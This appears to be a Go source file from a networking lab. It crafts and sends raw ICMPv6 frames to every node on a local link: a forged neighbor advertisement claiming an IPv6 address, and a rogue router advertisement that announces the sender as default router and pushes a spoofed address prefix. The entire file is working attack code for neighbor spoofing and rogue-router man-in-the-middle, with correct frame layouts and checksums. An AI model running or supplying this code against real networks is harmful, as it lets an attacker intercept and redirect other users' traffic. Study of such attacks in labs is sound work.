package lab

import (
	"encoding/binary"
	"net"
	"net/netip"

	"golang.org/x/sys/unix"
)

// SpoofedRange is what a false router gives addresses of.
const SpoofedRange = "fd66:66:66:66::"

// Types of ICMPv6 (RFC 4861, 4.2 and 4.4).
const routerAdvert, neighborAdvert = 134, 136

// claim6 sends frames to everybody on the link that claim an address of IPv6.
func claim6(fd int, link *net.Interface, ip netip.Addr) error {
	to := &unix.SockaddrLinklayer{Ifindex: link.Index, Halen: 6, Addr: [8]byte{0x33, 0x33, 0, 0, 0, 1}}
	const router, override = 1 << 31, 1 << 29
	advert := binary.BigEndian.AppendUint32(nil, router|override)
	advert = append(append(append(advert, ip.AsSlice()...), 2, 1), link.HardwareAddr...)
	for _, frame := range [][]byte{
		icmp6(link.HardwareAddr, ip, neighborAdvert, advert),
		icmp6(link.HardwareAddr, linkLocal(link.HardwareAddr), routerAdvert, routes(link.HardwareAddr)),
	} {
		if err := unix.Sendto(fd, frame, 0, to); err != nil {
			return err
		}
	}
	return nil
}

// routes is what a router advertises: itself for half an hour, and a prefix of which
// everybody makes an address.
func routes(own net.HardwareAddr) []byte {
	b := []byte{64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0}
	b = append(append(b, 1, 1), own...)
	const onLinkAutonomous = 0xc0
	b = append(b, 3, 4, 64, onLinkAutonomous, 0, 0, 0x0e, 0x10, 0, 0, 0x0e, 0x10, 0, 0, 0, 0)
	return append(b, netip.MustParseAddr(SpoofedRange).AsSlice()...)
}

// linkLocal is the address that belongs to a hardware address.
func linkLocal(mac net.HardwareAddr) netip.Addr {
	return netip.AddrFrom16([16]byte{0: 0xfe, 1: 0x80, 8: mac[0] ^ 2, 9: mac[1], 10: mac[2], 11: 0xff, 12: 0xfe, 13: mac[3], 14: mac[4], 15: mac[5]})
}

// icmp6 is a frame with a message to all nodes (RFC 4443), from an address.
func icmp6(own net.HardwareAddr, from netip.Addr, kind byte, body []byte) []byte {
	all := netip.MustParseAddr("ff02::1")
	message := append([]byte{kind, 0, 0, 0}, body...)
	binary.BigEndian.PutUint16(message[2:], checksum(from, all, message))
	frame := append(net.HardwareAddr{0x33, 0x33, 0, 0, 0, 1}, own...)
	frame = binary.BigEndian.AppendUint16(frame, unix.ETH_P_IPV6)
	frame = append(frame, 0x60, 0, 0, 0)
	frame = binary.BigEndian.AppendUint16(frame, uint16(len(message)))
	frame = append(append(append(frame, unix.IPPROTO_ICMPV6, 255), from.AsSlice()...), all.AsSlice()...)
	return append(frame, message...)
}

// checksum is that of RFC 8200, 8.1.
func checksum(from, to netip.Addr, message []byte) uint16 {
	b := append(append([]byte{}, from.AsSlice()...), to.AsSlice()...)
	b = binary.BigEndian.AppendUint32(b, uint32(len(message)))
	b = append(append(b, 0, 0, 0, unix.IPPROTO_ICMPV6), message...)
	if len(b)%2 == 1 {
		b = append(b, 0)
	}
	sum := uint32(0)
	for i := 0; i < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}
